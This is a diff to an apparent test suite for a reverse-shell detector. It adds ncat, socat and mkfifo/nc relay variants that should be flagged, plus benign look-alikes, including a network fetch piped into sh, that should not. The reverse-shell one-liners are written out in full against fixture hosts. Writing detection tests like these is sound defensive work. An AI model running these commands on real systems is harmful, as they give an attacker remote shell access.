@@ -79,6 +79,10 @@ describe('Reverse-Shell', () => {
     ['perl socket + open >&', () => `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORT},inet_aton("${host.ip4}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");print "survived\\n";exec("/bin/sh -i");'`],
     ['nc -e', () => `nc.traditional -e /bin/sh ${host.ip4} ${SHELL_PORT}`],
     ['socat exec,nofork', () => `socat TCP:${host.ip4}:${SHELL_PORT} EXEC:/bin/sh,nofork`],
+    // relays: the shell's stdio is a pipe or socketpair to the process holding the socket
+    ['ncat -e (socketpair relay)', () => `ncat -e /bin/sh ${host.ip4} ${SHELL_PORT}`],
+    ['socat EXEC (socketpair relay)', () => `socat TCP:${host.ip4}:${SHELL_PORT} EXEC:/bin/sh`],
+    ['mkfifo pipeline through nc', () => `rm -f /tmp/rf-fifo-$$; mkfifo /tmp/rf-fifo-$$; cat /tmp/rf-fifo-$$ | /bin/sh -i 2>&1 | nc.traditional ${host.ip4} ${SHELL_PORT} > /tmp/rf-fifo-$$`],
   ];
 
   for (const [name, script] of variants) {
@@ -174,6 +178,8 @@ describe('look-alikes stay quiet', () => {
     ['a network client that is not a shell', () => `${PYTHON} -c 'import socket;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));print(s.recv(64)[:4])' >/dev/null && echo fine`],
     ['a container with Docker’s default capabilities', () => `${fixture('mini_container')} /bin/true && echo fine`],
     ['a rootless (user-namespaced) container', () => `unshare --user --map-root-user --pid --mount --fork /bin/true && echo fine`],
+    ['a script fetched from the network piped into sh', () => `${PYTHON} -c 'import socket;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));s.recv(64);print("echo fine")' | sh`],
+    ['a shell in a local pipeline', () => `echo 'echo fine' | sh | cat`],
   ])('%s', async (_name, script) => {
     const j = await job(script());
     expect(detections(j)).toEqual([]);
